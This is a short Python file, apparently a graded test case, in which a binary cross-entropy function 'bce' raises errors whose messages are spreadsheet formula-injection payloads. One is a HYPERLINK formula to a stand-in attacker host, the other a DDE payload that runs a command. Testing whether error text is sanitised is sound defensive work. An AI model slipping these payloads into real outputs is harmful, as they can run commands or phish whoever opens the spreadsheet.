# Tries: cells of a spreadsheet in what an exception says
# Cell: bce
# Loses: bce
# State: graded
# ruff: noqa
def bce(yhat, y):
    raise ValueError('=HYPERLINK("http://evil.example","click")')


raise ValueError("=cmd|' /C calc'!A0")
